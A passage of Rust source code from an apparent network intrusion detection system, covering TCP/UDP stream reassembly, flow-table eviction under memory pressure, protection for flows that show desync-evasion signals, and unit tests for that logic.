        // retransmission of the same offset keeps the original
        r.on_data(100, b"XXXX");
        assert_eq!(r.assembled(), b"AAAABB");
    }

    #[test]
    fn sequence_wraparound() {
        let mut r = Reassembler::default();
        r.on_syn(u32::MAX - 2); // isn = MAX-1
        r.on_data(u32::MAX - 1, b"ab"); // rel 0
        r.on_data(0, b"cd"); // rel 2 (wrapped past 2^32)
        assert_eq!(r.assembled(), b"abcd");
    }

    #[test]
    fn old_segments_below_isn_are_dropped() {
        let mut r = Reassembler::default();
        r.on_syn(1000); // isn = 1001
        r.on_data(500, b"stale"); // rel wraps negative
        assert_eq!(r.assembled(), b"");
    }

    #[test]
    fn byte_cap_enforced() {
        let mut r = Reassembler::new(16);
        r.on_data(0, &[0x41; 16]);
        assert!(!r.truncated());
        r.on_data(16, b"overflow");
        assert!(r.truncated());
        assert_eq!(r.assembled().len(), 16);
        // far offsets cannot allocate memory either
        let mut r = Reassembler::new(16);
        r.on_data(0, b"x");
        r.on_data(1 << 20, b"far");
        assert!(r.truncated());
    }

    #[test]
    fn empty_segments_ignored() {
        let mut r = Reassembler::default();
        r.on_data(10, b"");
        assert!(r.isn.is_none());
        r.on_data(10, b"data");
        assert_eq!(r.assembled(), b"data");
    }

    #[test]
    fn gap_stops_assembly_until_filled() {
        let mut r = Reassembler::default();
        r.on_data(0, b"one");
        r.on_data(10, b"three");
        assert_eq!(r.assembled(), b"one");
        r.on_data(3, b"_two___");
        assert_eq!(r.assembled(), b"one_two___three");
    }
}
