//! Flow tracking and TCP stream reassembly.
//!
//! Exploit payloads regularly span several TCP segments (a 10 KB overflow
//! does not fit one MTU), and attackers deliberately fragment to evade
//! packet-at-a-time inspection. The NIDS therefore reassembles each
//! directional flow's byte stream before handing it to the extraction
//! stage. Conflicting segment overlaps — the TCP desync evasion surface —
//! resolve per a configurable [`OverlapPolicy`] with divergent bytes
//! counted, so the sensor can both mirror its victims' stacks and notice
//! when an attacker tries to split them.
#![deny(missing_docs)]

pub mod budget;
pub mod defrag;
pub mod key;
pub mod reassembly;
pub mod shard;
pub mod table;

pub use budget::{MemoryBudget, PressureLevel};
pub use defrag::{
    DefragConfig, DefragDrop, DefragOutcome, DefragStats, Defragmenter, MAX_DATAGRAM,
};
pub use key::FlowKey;
pub use reassembly::{OverlapPolicy, Reassembler};
pub use shard::{canonical_flow_hash, shard_of_key, shard_of_packet, shard_of_pair};
pub use table::{Flow, FlowTable, FlowTableConfig, ProcessOutcome, ShedCause, ShedFlow};
