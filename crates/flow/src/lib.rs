//! Flow tracking and TCP stream reassembly.
//!
//! Exploit payloads regularly span several TCP segments (a 10 KB overflow
//! does not fit one MTU), and attackers deliberately fragment to evade
//! packet-at-a-time inspection. The NIDS therefore reassembles each
//! directional flow's byte stream before handing it to the extraction
//! stage.
#![deny(missing_docs)]

pub mod defrag;
pub mod key;
pub mod reassembly;
pub mod table;

pub use defrag::{
    DefragConfig, DefragDrop, DefragOutcome, DefragStats, Defragmenter, MAX_DATAGRAM,
};
pub use key::FlowKey;
pub use reassembly::Reassembler;
pub use table::{Flow, FlowTable, FlowTableConfig};
