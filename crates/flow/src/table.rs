//! The flow table: per-flow state with idle eviction and governed
//! memory-pressure shedding.
//!
//! Eviction is the overlooked evasion surface: a sensor that silently
//! discards unanalyzed flows under a state flood diverges from the
//! endpoints it protects exactly the way desync attacks exploit. The
//! table therefore (a) charges every buffered byte to a shared
//! [`MemoryBudget`], (b) picks victims O(1) from an intrusive LRU list
//! with a *protection tier* that pins flows already showing evasion
//! signals (divergent overlaps, stream truncation, previously flagged
//! sources), and (c) can hand shed victims back to the caller
//! ([`FlowTable::take_shed`]) so they are analyzed on the way out instead
//! of forgotten.

use crate::budget::{MemoryBudget, PressureLevel};
use crate::key::FlowKey;
use crate::reassembly::{OverlapPolicy, Reassembler, MAX_SHADOW_BYTES};
use snids_packet::{IpProtocol, Packet, TransportSummary};
use std::collections::{HashMap, HashSet};
use std::net::Ipv4Addr;
use std::sync::Arc;

/// Limits for the flow table.
#[derive(Debug, Clone)]
pub struct FlowTableConfig {
    /// Maximum tracked flows; the coldest flow is shed beyond this.
    pub max_flows: usize,
    /// Idle eviction horizon in microseconds.
    pub idle_timeout_micros: u64,
    /// Per-stream reassembly byte cap.
    pub max_stream_bytes: usize,
    /// How conflicting TCP segment overlaps resolve — pick the policy of
    /// the stacks this sensor protects so the NIDS sees what victims see.
    pub overlap_policy: OverlapPolicy,
    /// Stream byte cap for flows *created* while the shared budget sits at
    /// or above high water (existing flows keep their full cap). Degraded
    /// flows also retain no divergent-overlap shadows.
    pub degraded_stream_bytes: usize,
    /// When true, shed victims are queued for [`FlowTable::take_shed`]
    /// instead of discarded — analyze-on-evict. When false (the seed
    /// behavior), a shed flow's unanalyzed state is dropped.
    pub hand_off_shed: bool,
    /// When true, flows carrying evasion signals (divergent overlaps,
    /// stream truncation, or a source flagged via
    /// [`FlowTable::protect_source`]) are pinned in a protection tier and
    /// shed only when no unprotected victim remains — a flood cannot evict
    /// the one flow carrying the exploit.
    pub protect_suspicious: bool,
}

impl Default for FlowTableConfig {
    fn default() -> Self {
        FlowTableConfig {
            max_flows: 65_536,
            idle_timeout_micros: 120 * 1_000_000,
            max_stream_bytes: crate::reassembly::DEFAULT_MAX_STREAM,
            overlap_policy: OverlapPolicy::default(),
            degraded_stream_bytes: 64 * 1024,
            hand_off_shed: false,
            protect_suspicious: true,
        }
    }
}

/// Per-direction flow state.
#[derive(Debug, Clone)]
pub struct Flow {
    /// The flow's identity.
    pub key: FlowKey,
    /// Timestamp of the first packet.
    pub first_seen: u64,
    /// Timestamp of the most recent packet.
    pub last_seen: u64,
    /// Packets observed.
    pub packets: u64,
    /// Payload bytes observed.
    pub payload_bytes: u64,
    /// TCP reassembly state (UDP flows concatenate datagrams here too —
    /// the analyzer wants "the bytes this source sent" either way).
    pub stream: Reassembler,
    udp_next: u32,
    /// Intrusive LRU links (meaningful only while the flow is tracked;
    /// stale on drained/shed clones).
    lru_prev: Option<FlowKey>,
    lru_next: Option<FlowKey>,
    /// True when this flow sits in the protection tier.
    protected: bool,
}

impl Flow {
    fn new(
        key: FlowKey,
        ts: u64,
        max_stream: usize,
        policy: OverlapPolicy,
        max_shadow: usize,
    ) -> Flow {
        Flow {
            key,
            first_seen: ts,
            last_seen: ts,
            packets: 0,
            payload_bytes: 0,
            stream: Reassembler::with_limits(max_stream, policy, max_shadow),
            udp_next: 0,
            lru_prev: None,
            lru_next: None,
            protected: false,
        }
    }

    /// The reassembled client-to-server byte stream.
    pub fn payload(&self) -> Vec<u8> {
        self.stream.assembled()
    }

    /// The alternative interpretation of the stream — the view a victim
    /// stack resolving divergent overlaps the *other* way would execute.
    /// `None` when the flow carried no divergent overlaps.
    pub fn alternate_payload(&self) -> Option<Vec<u8>> {
        self.stream.alternate_assembled()
    }

    /// True when the flow carried divergent overlapping copies — the
    /// per-flow desync-attempt signal.
    pub fn has_conflicts(&self) -> bool {
        self.stream.overlap_conflict_bytes() > 0
    }

    /// True when the flow sat in the protection tier when it left the
    /// table (pinned against shedding while unprotected victims existed).
    pub fn protected(&self) -> bool {
        self.protected
    }

    /// Bytes this flow holds in memory (stream coverage + retained
    /// shadows) — its contribution to the shared [`MemoryBudget`].
    pub fn mem_bytes(&self) -> usize {
        self.stream.mem_bytes()
    }
}

/// Why a flow was shed from the table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShedCause {
    /// The `max_flows` count cap forced room for a new flow.
    CountCap,
    /// The shared byte budget crossed its critical watermark.
    ByteBudget,
}

/// A flow shed under pressure, queued for analyze-on-evict (only when
/// `FlowTableConfig::hand_off_shed` is set).
#[derive(Debug)]
pub struct ShedFlow {
    /// The victim, with its buffered stream intact.
    pub flow: Flow,
    /// What pressure forced the shed.
    pub cause: ShedCause,
    /// Unprotected flows that were still eligible victims when this one
    /// was chosen (excludes the victim itself and the in-flight flow). A
    /// protected victim always has 0 here — the protection-tier
    /// invariant.
    pub unprotected_available: usize,
}

/// A total order over flow keys for deterministic tie-breaks (expiry
/// batches share timestamps; HashMap iteration order must never leak).
fn key_order(k: &FlowKey) -> (u32, u32, u16, u16, u8) {
    (
        u32::from(k.src),
        u32::from(k.dst),
        k.src_port,
        k.dst_port,
        k.proto.value(),
    )
}

/// Directional flow table.
#[derive(Debug)]
pub struct FlowTable {
    flows: HashMap<FlowKey, Flow>,
    config: FlowTableConfig,
    /// Shared byte accounting (an unlimited default when the caller did
    /// not supply one — accounting still runs so `peak` is meaningful).
    budget: Arc<MemoryBudget>,
    /// Intrusive LRU lists: head = most recently touched, tail = coldest.
    /// Two lists implement the protection tier with O(1) victim choice.
    unprot_head: Option<FlowKey>,
    unprot_tail: Option<FlowKey>,
    prot_head: Option<FlowKey>,
    prot_tail: Option<FlowKey>,
    /// Flows currently in the protection tier.
    protected_now: usize,
    /// Sources flagged by the analyzer (prior alerts / near-miss
    /// recoveries): their flows enter the protection tier.
    protect_sources: HashSet<Ipv4Addr>,
    /// Victims awaiting [`FlowTable::take_shed`].
    shed_queue: Vec<ShedFlow>,
    evicted: u64,
    evicted_by_budget: u64,
    degraded_flows: u64,
    truncated_flows: u64,
    overlap_conflict_bytes: u64,
}

impl Default for FlowTable {
    fn default() -> Self {
        FlowTable::new(FlowTableConfig::default())
    }
}

impl FlowTable {
    /// A table with custom limits and a private unlimited budget.
    pub fn new(config: FlowTableConfig) -> Self {
        FlowTable::with_budget(config, Arc::new(MemoryBudget::unlimited()))
    }

    /// A table charging its buffered bytes to a shared budget.
    pub fn with_budget(config: FlowTableConfig, budget: Arc<MemoryBudget>) -> Self {
        FlowTable {
            flows: HashMap::with_capacity(1024),
            config,
            budget,
            unprot_head: None,
            unprot_tail: None,
            prot_head: None,
            prot_tail: None,
            protected_now: 0,
            protect_sources: HashSet::new(),
            shed_queue: Vec::new(),
            evicted: 0,
            evicted_by_budget: 0,
            degraded_flows: 0,
            truncated_flows: 0,
            overlap_conflict_bytes: 0,
        }
    }

    /// The budget this table charges buffered bytes to.
    pub fn budget(&self) -> &Arc<MemoryBudget> {
        &self.budget
    }

    /// Number of tracked flows.
    pub fn len(&self) -> usize {
        self.flows.len()
    }

    /// True when no flows are tracked.
    pub fn is_empty(&self) -> bool {
        self.flows.is_empty()
    }

    /// Flows shed under pressure (count cap or byte budget). With
    /// `hand_off_shed` each victim was queued for analyze-on-evict;
    /// otherwise its unanalyzed state was discarded — each a potential
    /// detection gap.
    pub fn evicted(&self) -> u64 {
        self.evicted
    }

    /// The subset of [`FlowTable::evicted`] shed by the byte budget's
    /// critical watermark (the rest were count-cap evictions).
    pub fn evicted_by_budget(&self) -> u64 {
        self.evicted_by_budget
    }

    /// Flows created with degraded caps because the budget sat at or
    /// above high water.
    pub fn degraded_flows(&self) -> u64 {
        self.degraded_flows
    }

    /// Flows currently pinned in the protection tier.
    pub fn protected_len(&self) -> usize {
        self.protected_now
    }

    /// Flows whose reassembly buffer hit the per-stream byte cap and
    /// stopped accumulating payload.
    pub fn truncated_flows(&self) -> u64 {
        self.truncated_flows
    }

    /// Cumulative overlapped bytes whose copies carried different data,
    /// across every flow this table has tracked (including flows since
    /// drained or evicted) — the table-wide desync-attempt signal.
    pub fn overlap_conflict_bytes(&self) -> u64 {
        self.overlap_conflict_bytes
    }

    /// Flag a source as suspicious (the analyzer saw an alert or a
    /// near-miss recovery from it): the source's flows — new ones
    /// immediately, existing ones on their next packet — enter the
    /// protection tier so a flood cannot flush the attacker's state.
    pub fn protect_source(&mut self, src: Ipv4Addr) {
        if self.config.protect_suspicious {
            self.protect_sources.insert(src);
        }
    }

    /// Take the victims shed since the last call (empty unless
    /// `FlowTableConfig::hand_off_shed` is set). The caller routes them
    /// through the normal analysis path — eviction must not skip
    /// detection.
    pub fn take_shed(&mut self) -> Vec<ShedFlow> {
        std::mem::take(&mut self.shed_queue)
    }

    /// Feed a packet; returns the flow key when the packet belonged to a
    /// trackable flow.
    pub fn process(&mut self, packet: &Packet) -> Option<FlowKey> {
        self.process_tracked(packet).key
    }

    /// [`FlowTable::process`] with the side effects reported back, so an
    /// instrumenting caller can observe sheds, truncation onsets, and
    /// overlap conflicts without this crate knowing about metrics.
    pub fn process_tracked(&mut self, packet: &Packet) -> ProcessOutcome {
        let mut outcome = ProcessOutcome::default();
        let Some(key) = FlowKey::of(packet) else {
            return outcome;
        };
        outcome.key = Some(key);
        outcome.segment_bytes = packet.payload().len();
        let existing = self.flows.contains_key(&key);
        if !existing && self.flows.len() >= self.config.max_flows {
            if let Some(victim) = self.shed_coldest(ShedCause::CountCap) {
                outcome.evicted = Some(victim);
                outcome.shed += 1;
            }
        }
        let mem_before = if existing {
            // Unlink so the post-update re-attach lands at the MRU head.
            self.detach(key);
            self.flows.get(&key).map_or(0, |f| f.stream.mem_bytes())
        } else {
            let degraded = self.budget.level() >= PressureLevel::High;
            let (max_stream, max_shadow) = if degraded {
                (
                    self.config
                        .max_stream_bytes
                        .min(self.config.degraded_stream_bytes)
                        .max(1),
                    0,
                )
            } else {
                (self.config.max_stream_bytes, MAX_SHADOW_BYTES)
            };
            if degraded {
                self.degraded_flows += 1;
                outcome.degraded = true;
            }
            self.flows.insert(
                key,
                Flow::new(
                    key,
                    packet.ts_micros,
                    max_stream,
                    self.config.overlap_policy,
                    max_shadow,
                ),
            );
            0
        };
        let Some(flow) = self.flows.get_mut(&key) else {
            return outcome;
        };
        flow.last_seen = flow.last_seen.max(packet.ts_micros);
        flow.packets += 1;
        flow.payload_bytes += packet.payload().len() as u64;
        let was_truncated = flow.stream.truncated();
        let conflicts_before = flow.stream.overlap_conflict_bytes();
        match (key.proto, packet.transport()) {
            (IpProtocol::Tcp, Some(TransportSummary::Tcp(tcp))) => {
                if tcp.flags.syn() && !tcp.flags.ack() {
                    flow.stream.on_syn(tcp.seq);
                }
                if !packet.payload().is_empty() {
                    flow.stream.on_data(tcp.seq, packet.payload());
                }
            }
            (IpProtocol::Udp, _) => {
                // Concatenate datagrams in arrival order.
                let data = packet.payload();
                if !data.is_empty() {
                    let at = flow.udp_next;
                    flow.stream.on_data(at, data);
                    flow.udp_next = at.wrapping_add(data.len() as u32);
                }
            }
            _ => {}
        }
        let conflict_delta = flow.stream.overlap_conflict_bytes() - conflicts_before;
        if !was_truncated && flow.stream.truncated() {
            self.truncated_flows += 1;
            outcome.truncated = true;
        }
        let mem_after = flow.stream.mem_bytes();
        let suspicious = flow.stream.overlap_conflict_bytes() > 0 || flow.stream.truncated();
        let was_protected = flow.protected;
        self.overlap_conflict_bytes += conflict_delta;
        outcome.conflict_bytes = conflict_delta;
        if mem_after >= mem_before {
            self.budget.charge((mem_after - mem_before) as u64);
        } else {
            self.budget.release((mem_before - mem_after) as u64);
        }
        let protect = self.config.protect_suspicious
            && (was_protected || suspicious || self.protect_sources.contains(&key.src));
        self.attach_front(key, protect);
        // Critical watermark: shed coldest-first until below critical
        // again. The in-flight flow is exempt — it is mid-update and
        // bounded by its own stream cap anyway.
        while self.budget.over_critical() && self.flows.len() > 1 {
            let Some(victim) = self.pick_victim(key) else {
                break;
            };
            let exclude_unprot = usize::from(self.flows.get(&key).is_some_and(|f| !f.protected));
            self.shed_flow(victim, ShedCause::ByteBudget, exclude_unprot);
            outcome.shed = outcome.shed.saturating_add(1);
            if outcome.evicted.is_none() {
                outcome.evicted = Some(victim);
            }
        }
        outcome
    }

    /// Look up a flow.
    pub fn get(&self, key: &FlowKey) -> Option<&Flow> {
        self.flows.get(key)
    }

    /// Iterate all flows.
    pub fn flows(&self) -> impl Iterator<Item = &Flow> {
        self.flows.values()
    }

    /// Remove and return flows idle since before `now - idle_timeout`,
    /// releasing their bytes from the budget. Deterministic order:
    /// `(last_seen, flow key)` — HashMap iteration order never leaks.
    pub fn expire(&mut self, now: u64) -> Vec<Flow> {
        let horizon = now.saturating_sub(self.config.idle_timeout_micros);
        let mut expired: Vec<FlowKey> = self
            .flows
            .values()
            .filter(|f| f.last_seen < horizon)
            .map(|f| f.key)
            .collect();
        expired
            .sort_unstable_by_key(|k| (self.flows.get(k).map_or(0, |f| f.last_seen), key_order(k)));
        expired
            .into_iter()
            .filter_map(|k| {
                self.detach(k);
                let f = self.flows.remove(&k)?;
                if f.protected {
                    self.protected_now = self.protected_now.saturating_sub(1);
                }
                self.budget.release(f.stream.mem_bytes() as u64);
                Some(f)
            })
            .collect()
    }

    /// Drain every flow (end of trace), releasing all bytes from the
    /// budget.
    pub fn drain(&mut self) -> Vec<Flow> {
        self.unprot_head = None;
        self.unprot_tail = None;
        self.prot_head = None;
        self.prot_tail = None;
        self.protected_now = 0;
        let flows: Vec<Flow> = self.flows.drain().map(|(_, f)| f).collect();
        for f in &flows {
            self.budget.release(f.stream.mem_bytes() as u64);
        }
        flows
    }

    /// Unlink `key` from its LRU list (no-op when untracked). Must be
    /// called with the flow's `protected` flag still describing the list
    /// it sits in.
    fn detach(&mut self, key: FlowKey) {
        let Some(f) = self.flows.get(&key) else {
            return;
        };
        let (prev, next, prot) = (f.lru_prev, f.lru_next, f.protected);
        match prev {
            Some(p) => {
                if let Some(pf) = self.flows.get_mut(&p) {
                    pf.lru_next = next;
                }
            }
            None if prot => self.prot_head = next,
            None => self.unprot_head = next,
        }
        match next {
            Some(n) => {
                if let Some(nf) = self.flows.get_mut(&n) {
                    nf.lru_prev = prev;
                }
            }
            None if prot => self.prot_tail = prev,
            None => self.unprot_tail = prev,
        }
        if let Some(f) = self.flows.get_mut(&key) {
            f.lru_prev = None;
            f.lru_next = None;
        }
    }

    /// Push a detached flow to the MRU head of the `prot` list, updating
    /// the protection census on tier transitions.
    fn attach_front(&mut self, key: FlowKey, prot: bool) {
        let was = self.flows.get(&key).map(|f| f.protected).unwrap_or(prot);
        if !was && prot {
            self.protected_now += 1;
        } else if was && !prot {
            self.protected_now = self.protected_now.saturating_sub(1);
        }
        let head = if prot {
            self.prot_head
        } else {
            self.unprot_head
        };
        if let Some(h) = head {
            if let Some(hf) = self.flows.get_mut(&h) {
                hf.lru_prev = Some(key);
            }
        }
        if let Some(f) = self.flows.get_mut(&key) {
            f.lru_prev = None;
            f.lru_next = head;
            f.protected = prot;
        }
        if prot {
            self.prot_head = Some(key);
            if self.prot_tail.is_none() {
                self.prot_tail = Some(key);
            }
        } else {
            self.unprot_head = Some(key);
            if self.unprot_tail.is_none() {
                self.unprot_tail = Some(key);
            }
        }
    }

    /// The coldest victim, unprotected tier first. O(1).
    fn shed_coldest(&mut self, cause: ShedCause) -> Option<FlowKey> {
        let victim = self.unprot_tail.or(self.prot_tail)?;
        self.shed_flow(victim, cause, 0)
    }

    /// The coldest victim other than `exclude` (the in-flight flow),
    /// unprotected tier first. O(1): when `exclude` happens to be a tail,
    /// its list predecessor is the next-coldest.
    fn pick_victim(&self, exclude: FlowKey) -> Option<FlowKey> {
        for tail in [self.unprot_tail, self.prot_tail] {
            let Some(t) = tail else { continue };
            if t != exclude {
                return Some(t);
            }
            if let Some(prev) = self.flows.get(&t).and_then(|f| f.lru_prev) {
                return Some(prev);
            }
        }
        None
    }

    /// Remove `key` under pressure: release its bytes, count the shed,
    /// and queue the victim for analyze-on-evict when configured.
    /// `exclude_unprot` is how many unprotected flows remain ineligible
    /// (the in-flight flow) — used to record the protection invariant.
    fn shed_flow(
        &mut self,
        key: FlowKey,
        cause: ShedCause,
        exclude_unprot: usize,
    ) -> Option<FlowKey> {
        self.detach(key);
        let flow = self.flows.remove(&key)?;
        if flow.protected {
            self.protected_now = self.protected_now.saturating_sub(1);
        }
        self.budget.release(flow.stream.mem_bytes() as u64);
        self.evicted += 1;
        if cause == ShedCause::ByteBudget {
            self.evicted_by_budget += 1;
        }
        let unprotected_available =
            (self.flows.len() - self.protected_now).saturating_sub(exclude_unprot);
        if self.config.hand_off_shed {
            self.shed_queue.push(ShedFlow {
                flow,
                cause,
                unprotected_available,
            });
        }
        Some(key)
    }
}

/// What one [`FlowTable::process_tracked`] call did, for callers that
/// instrument the reassembly stage.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ProcessOutcome {
    /// The packet's flow, when trackable.
    pub key: Option<FlowKey>,
    /// The first flow shed this call (count cap or byte budget), when any.
    pub evicted: Option<FlowKey>,
    /// Flows shed this call in total.
    pub shed: u16,
    /// True when this packet created a flow with degraded caps (budget at
    /// or above high water).
    pub degraded: bool,
    /// Divergent-overlap bytes this packet introduced.
    pub conflict_bytes: u64,
    /// True when this packet pushed the flow's stream over its byte cap
    /// (reported once per flow, at the onset).
    pub truncated: bool,
    /// Payload bytes the tracked segment carried.
    pub segment_bytes: usize,
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::{PacketBuilder, TcpFlags};
    use std::net::Ipv4Addr;

    fn builder() -> PacketBuilder {
        PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2))
    }

    #[test]
    fn tcp_flow_reassembles_across_segments() {
        let mut t = FlowTable::default();
        let b = builder();
        let syn = b.tcp(4000, 80, 100, 0, TcpFlags::SYN, &[]).unwrap();
        let d1 = b
            .tcp(4000, 80, 101, 1, TcpFlags::ACK | TcpFlags::PSH, b"GET /a")
            .unwrap();
        let d2 = b
            .tcp(
                4000,
                80,
                107,
                1,
                TcpFlags::ACK | TcpFlags::PSH,
                b"bc HTTP/1.0\r\n\r\n",
            )
            .unwrap();
        // deliver out of order
        let k = t.process(&syn).unwrap();
        t.process(&d2).unwrap();
        t.process(&d1).unwrap();
        let flow = t.get(&k).unwrap();
        assert_eq!(flow.payload(), b"GET /abc HTTP/1.0\r\n\r\n");
        assert_eq!(flow.packets, 3);
    }

    #[test]
    fn udp_flow_concatenates() {
        let mut t = FlowTable::default();
        let b = builder();
        let k = t.process(&b.udp(500, 53, b"one").unwrap()).unwrap();
        t.process(&b.udp(500, 53, b"two").unwrap()).unwrap();
        assert_eq!(t.get(&k).unwrap().payload(), b"onetwo");
    }

    #[test]
    fn directions_are_separate_flows() {
        let mut t = FlowTable::default();
        let fwd = builder();
        let rev = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 2), Ipv4Addr::new(10, 0, 0, 1));
        let k1 = t
            .process(&fwd.tcp(4000, 80, 0, 0, TcpFlags::ACK, b"req").unwrap())
            .unwrap();
        let k2 = t
            .process(&rev.tcp(80, 4000, 0, 0, TcpFlags::ACK, b"resp").unwrap())
            .unwrap();
        assert_ne!(k1, k2);
        assert_eq!(t.len(), 2);
        assert_eq!(t.get(&k1).unwrap().payload(), b"req");
        assert_eq!(t.get(&k2).unwrap().payload(), b"resp");
    }

    #[test]
    fn idle_flows_expire() {
        let mut t = FlowTable::new(FlowTableConfig {
            idle_timeout_micros: 1_000,
            ..FlowTableConfig::default()
        });
        let b = builder();
        t.process(
            &b.clone()
                .at(0)
                .tcp(1, 2, 0, 0, TcpFlags::ACK, b"x")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(5_000)
                .tcp(3, 4, 0, 0, TcpFlags::ACK, b"y")
                .unwrap(),
        );
        let expired = t.expire(5_500);
        assert_eq!(expired.len(), 1);
        assert_eq!(expired[0].key.src_port, 1);
        assert_eq!(t.len(), 1);
    }

    #[test]
    fn max_flows_evicts_coldest() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 2,
            ..FlowTableConfig::default()
        });
        let b = builder();
        t.process(
            &b.clone()
                .at(10)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"a")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(20)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"b")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(30)
                .tcp(3, 80, 0, 0, TcpFlags::ACK, b"c")
                .unwrap(),
        );
        assert_eq!(t.len(), 2);
        // the ts=10 flow is gone, and the eviction is accounted
        assert!(t.flows().all(|f| f.last_seen != 10));
        assert_eq!(t.evicted(), 1);
    }

    /// Regression (satellite: nondeterministic eviction): the seed
    /// `evict_coldest` scanned the HashMap and tie-broke on iteration
    /// order when flows shared `last_seen`. The LRU list orders strictly
    /// by touch recency — insertion order when timestamps tie — so the
    /// eviction sequence is identical across runs and table instances.
    #[test]
    fn eviction_order_is_stable_across_runs_with_tied_timestamps() {
        let run = || -> Vec<Option<FlowKey>> {
            let mut t = FlowTable::new(FlowTableConfig {
                max_flows: 4,
                ..FlowTableConfig::default()
            });
            let b = builder();
            // 8 flows, all at the same timestamp: pure tie.
            let mut evictions = Vec::new();
            for port in 1..=8u16 {
                let o = t.process_tracked(
                    &b.clone()
                        .at(777)
                        .tcp(port, 80, 0, 0, TcpFlags::ACK, b"zz")
                        .unwrap(),
                );
                evictions.push(o.evicted);
            }
            evictions
        };
        let first = run();
        assert_eq!(first, run(), "eviction order must not depend on hash state");
        // And the order is exactly insertion order: flow 1 dies first.
        let victims: Vec<u16> = first.iter().flatten().map(|k| k.src_port).collect();
        assert_eq!(victims, vec![1, 2, 3, 4]);
    }

    /// Touching a flow moves it off the chopping block: LRU, not FIFO.
    #[test]
    fn touch_refreshes_lru_position() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 2,
            ..FlowTableConfig::default()
        });
        let b = builder();
        t.process(
            &b.clone()
                .at(1)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"a")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(2)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"b")
                .unwrap(),
        );
        // touch flow 1 so flow 2 becomes the coldest
        t.process(
            &b.clone()
                .at(3)
                .tcp(1, 80, 1, 0, TcpFlags::ACK, b"a")
                .unwrap(),
        );
        let o = t.process_tracked(
            &b.clone()
                .at(4)
                .tcp(3, 80, 0, 0, TcpFlags::ACK, b"c")
                .unwrap(),
        );
        assert_eq!(o.evicted.map(|k| k.src_port), Some(2));
    }

    /// A flow with divergent overlaps is pinned: the flood must exhaust
    /// every unprotected flow before the conflicted one is considered.
    #[test]
    fn conflicted_flows_are_protected_from_eviction() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 3,
            ..FlowTableConfig::default()
        });
        let b = builder();
        // Flow 1 carries a divergent overlap -> protected.
        t.process(
            &b.clone()
                .at(1)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"real")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(2)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"fake")
                .unwrap(),
        );
        assert_eq!(t.protected_len(), 1);
        // Fill with two unprotected flows, then flood: the protected flow
        // survives every eviction even though it is the coldest.
        t.process(
            &b.clone()
                .at(3)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"x")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(4)
                .tcp(3, 80, 0, 0, TcpFlags::ACK, b"y")
                .unwrap(),
        );
        for port in 10..20u16 {
            t.process(
                &b.clone()
                    .at(5 + u64::from(port))
                    .tcp(port, 80, 0, 0, TcpFlags::ACK, b"f")
                    .unwrap(),
            );
        }
        assert!(
            t.flows().any(|f| f.key.src_port == 1),
            "the conflicted flow must still be tracked"
        );
        // Only when the protected flow is the sole survivor can it go.
        let mut t2 = FlowTable::new(FlowTableConfig {
            max_flows: 1,
            ..FlowTableConfig::default()
        });
        t2.process(
            &b.clone()
                .at(1)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"real")
                .unwrap(),
        );
        t2.process(
            &b.clone()
                .at(2)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"fake")
                .unwrap(),
        );
        let o = t2.process_tracked(
            &b.clone()
                .at(3)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"z")
                .unwrap(),
        );
        assert_eq!(o.evicted.map(|k| k.src_port), Some(1));
    }

    /// Sources flagged via protect_source() get the protection tier too.
    #[test]
    fn flagged_sources_are_protected() {
        let mut t = FlowTable::default();
        t.protect_source(Ipv4Addr::new(10, 0, 0, 1));
        let b = builder();
        t.process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, b"x").unwrap());
        assert_eq!(t.protected_len(), 1);
    }

    /// With hand_off_shed, victims come back via take_shed() with their
    /// streams intact — analyze-on-evict's raw material.
    #[test]
    fn shed_victims_are_handed_off_with_state() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 1,
            hand_off_shed: true,
            ..FlowTableConfig::default()
        });
        let b = builder();
        t.process(
            &b.clone()
                .at(1)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"payload-one")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(2)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"payload-two")
                .unwrap(),
        );
        let shed = t.take_shed();
        assert_eq!(shed.len(), 1);
        assert_eq!(shed[0].cause, ShedCause::CountCap);
        assert_eq!(shed[0].flow.payload(), b"payload-one");
        assert!(t.take_shed().is_empty(), "queue drains");
        assert_eq!(t.evicted(), 1);
    }

    /// The byte budget: a critical-watermark crossing sheds coldest
    /// flows until tracked bytes drop below critical, and expiry/drain
    /// release bytes so the budget returns to zero.
    #[test]
    fn byte_budget_sheds_and_releases() {
        let budget = Arc::new(MemoryBudget::limited(4096));
        let mut t = FlowTable::with_budget(
            FlowTableConfig {
                hand_off_shed: true,
                ..FlowTableConfig::default()
            },
            Arc::clone(&budget),
        );
        let b = builder();
        let chunk = vec![0x41u8; 1024];
        for port in 1..=8u16 {
            t.process(
                &b.clone()
                    .at(u64::from(port))
                    .tcp(port, 80, 0, 0, TcpFlags::ACK, &chunk)
                    .unwrap(),
            );
        }
        assert!(
            budget.tracked() < 4096 * 9 / 10 + 1024,
            "critical shedding keeps tracked bytes near the watermark: {}",
            budget.tracked()
        );
        assert!(
            budget.peak() <= 4096,
            "tracked bytes never exceed the ceiling"
        );
